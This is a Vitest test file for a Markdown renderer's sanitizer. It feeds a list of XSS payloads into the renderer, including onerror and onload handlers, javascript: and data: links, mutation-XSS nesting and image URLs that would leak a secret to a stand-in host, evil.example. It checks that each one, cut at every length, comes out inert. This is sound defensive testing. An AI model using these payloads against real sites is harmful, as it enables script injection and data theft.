import { beforeAll, expect, test } from 'vitest';
import { allowed } from './links';
import { toHtml, toNodes } from './render';
import { rareRules } from './rules.svelte';

beforeAll(() => rareRules.load());

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action=https://evil.example><button>go</button></form>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=prefetch href=https://evil.example>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://example.org/1)',
  '[x](//evil.example "a\\" onmouseover=\\"alert(1)")',
  '![](https://evil.example/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '![x](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '<details open ontoggle=alert(1)>',
  '<x onclick=alert(1) style="background:url(https://evil.example)">x</x>',
  '`<img src=x onerror=alert(1)>`',
  '[^1](<#note-"><img src=x onerror=alert(1)>>)',
  '[^1](<#note-" onclick="alert(1)>)',
  '[^1"onclick=alert(1)]: x\n\nA[^1"onclick=alert(1)]',
  '\\( \\htmlData{x}{<img src=x onerror=alert(1)>} \\)',
  '$$<img src=x onerror=alert(1)>$$',
];

test('what seems to be a note is escaped like any other link', () => {
  expect(toHtml('[^1](<#note-" onclick="x>)')).not.toContain('onclick');
});

const FORBIDDEN =
  'script, style, img, svg, math, iframe, form, base, meta, link, object, embed, input, video, audio, source, details, x';

function dangersIn(html: string): string[] {
  const host = document.createElement('div');
  host.append(toNodes(html));
  const found = Array.from(host.querySelectorAll(FORBIDDEN), (element) => element.outerHTML);
  for (const element of host.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'src') found.push(`${name}=${value}`);
      if (name === 'href' && !/^(https?:|mailto:|#)/.test(value)) found.push(`href=${value}`);
    }
  }
  return found;
}

test.each(PAYLOADS)('%j does nothing, wherever it is cut', (payload) => {
  for (let end = 1; end <= payload.length; end++) {
    expect(dangersIn(toHtml(payload.slice(0, end)))).toEqual([]);
  }
  expect(dangersIn(toHtml(`- a\n\n  ${payload}\n\n> ${payload}`))).toEqual([]);
});

test('a picture becomes a link that names its host', () => {
  expect(toHtml('![a map](https://maps.example/1.png)')).toContain('>a map (maps.example)</a>');
});

test('only http, https, mailto and footnotes are followed', () => {
  expect(['https://a.example/', 'http://a.example/', 'mailto:a@b.example', '#note-1'].map(allowed)).not.toContain(null);
  expect(['ftp://a', '/api/session', 'javascript:1', ' https://a', '//a', 'file:///etc'].map(allowed)).toEqual(
    Array(6).fill(null),
  );
});

test('a link leaves no handle to this page behind', () => {
  expect(toHtml('[x](https://a.example)')).toContain('rel="noopener noreferrer nofollow"');
});

test('raw HTML is shown as it was written', () => {
  const host = document.createElement('div');
  host.append(toNodes(toHtml('Use <b>bold</b>')));
  expect(host.textContent?.trim()).toBe('Use <b>bold</b>');
});

test('a link defined at the end is known at the beginning', () => {
  expect(toHtml('See [here][h].\n\n[h]: https://a.example')).toContain('href="https://a.example/"');
});
